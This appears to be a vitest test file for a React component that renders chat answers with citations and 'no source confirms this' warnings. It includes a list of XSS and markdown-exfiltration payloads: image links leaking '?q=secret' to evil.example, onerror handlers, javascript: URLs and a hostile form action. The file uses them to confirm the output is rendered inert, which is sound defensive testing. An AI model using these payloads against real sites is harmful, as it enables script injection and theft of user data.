import i18next from 'i18next';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { initReactI18next } from 'react-i18next';
import { beforeAll, describe, expect, it } from 'vitest';
import chat from '../../lib/i18n/en/chat.ts';
import { closeOpenMarks } from './answer-syntax.ts';
import { AnswerText } from './answer-text.tsx';

beforeAll(async () => {
  await i18next.use(initReactI18next).init({ lng: 'en', resources: { en: { chat } } });
});

function render(text: string, props: Partial<Parameters<typeof AnswerText>[0]> = {}): string {
  return renderToStaticMarkup(createElement(AnswerText, { text, ...props }));
}

const attacks = [
  '![x](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'a <script>alert(1)</script> b',
  '[x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '"><form action="https://evil.example"><input>',
  '- [ ] <a href="javascript:alert(1)">x</a>',
  'x[^1]\n\n[^1]: ![y](https://evil.example)',
];

const allowedTags =
  /^(?:div|p|br|hr|strong|em|del|sup|span|button|a|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td)$/;

function expectInert(html: string): void {
  for (const [, tag] of html.matchAll(/<([a-z][\w-]*)/gi)) expect(tag).toMatch(allowedTags);
  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:|mailto:)/);
  expect(html).not.toMatch(/<[^>]*\son\w+=/i);
  expect(html).not.toMatch(/<[^>]*\ssrc=/i);
}

describe('AnswerText', () => {
  it.each(attacks)('renders %j inert, whole and cut at every character', (attack) => {
    for (let end = 1; end <= attack.length; end++) {
      expectInert(render(attack.slice(0, end), { isStreaming: true }));
    }
    expectInert(render(attack));
  });

  it('shows the alternative text of a picture and the text of HTML', () => {
    expect(render('See ![our menu](https://evil.example/a.png) here')).toContain('See our menu here');
    expect(render('Press <Enter> twice')).toContain('Press &lt;Enter&gt; twice');
    expect(render('<b>Hi</b>')).toContain('&lt;b&gt;Hi');
  });

  it('marks links as foreign and shows where they lead', () => {
    const html = render('[our site](https://shop.example/x)');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('(shop.example)');
    expect(render('https://shop.example/x')).not.toContain('(shop.example)');
  });

  it('turns markers into buttons of known sources and drops the others', () => {
    const html = render('Open at 9.[1][2] Closed on Sunday.[7]', {
      sourceTitles: ['faq.md', 'menu.pdf'],
      onCitation: () => {},
    });
    expect(html).toContain('aria-label="Source 1: faq.md"');
    expect(html).toContain('aria-label="Source 2: menu.pdf"');
    expect(html).toContain('Sunday.</p>');
  });

  it('keeps a citation from becoming a link by a definition in the answer', () => {
    const html = render('Open at 9 [1].\n\n[1]: https://evil.example', { sourceTitles: ['faq.md'] });
    expect(html).not.toContain('evil.example');
    expect(html).toContain('Source 1: faq.md');
  });

  it.each([
    ['Delivery is free [1]. ⚠ It takes a day [1].', 1],
    ['- Ube cake, 980 pesos ⚠\n- Mango cake [1]. ⚠', 2],
    ['It costs **980 pesos.** ⚠', 1],
    ['“It is the best.” ⚠\n\n> Quoted.', 1],
    ['| Cake | Price |\n|---|---|\n| Ube | 980 pesos ⚠ |', 1],
    ['Mind the ⚠ sign at the door.', 0],
    ['⚠ Wet floor.', 0],
    ['Wet floor. ⚠️ Walk slowly.', 0],
    ['`a. ⚠`', 0],
  ])('says of %j where no source confirms a sentence, %i times', (text, count) => {
    const html = render(text, { sourceTitles: ['faq.md'] });
    expect(html.split('(no source confirms this)')).toHaveLength(count + 1);
    expectInert(html.replaceAll(/<svg.*?<\/svg>/g, ''));
    if (count > 0) expect(html.replaceAll(/<span[^>]*>/g, '')).not.toContain('⚠');
  });

  it('leaves brackets in code alone', () => {
    expect(render('`list[1]`', { sourceTitles: ['a'] })).toContain('list[1]');
  });

  it.each([
    ['quotes', '>'.repeat(20_000)],
    ['brackets', '['.repeat(40_000)],
    ['pictures', '!['.repeat(20_000)],
    ['length', 'a **b** '.repeat(20_000)],
  ])('survives a flood of %s', (_, text) => {
    const start = performance.now();
    expectInert(render(text));
    expect(performance.now() - start).toBeLessThan(20_000);
  });
});

describe('closeOpenMarks', () => {
  it.each([
    ['The price is **4', 'The price is **4**'],
    ['The price is **', 'The price is '],
    ['The price is **45 pesos*', 'The price is **45 pesos**'],
    ['Run `npm st', 'Run `npm st`'],
    ['See [our menu](https://sho', 'See our menu'],
    ['Open at 9 [', 'Open at 9 '],
    ['Open at 9 [1', 'Open at 9 '],
    ['Open at 9 [1]', 'Open at 9 [1]'],
    ['```\na **b', '```\na **b'],
    ['One **two** three.\n\nFour **fi', 'One **two** three.\n\nFour **fi**'],
    ['plain', 'plain'],
  ])('%j becomes %j', (text, closed) => {
    expect(closeOpenMarks(text)).toBe(closed);
  });
});
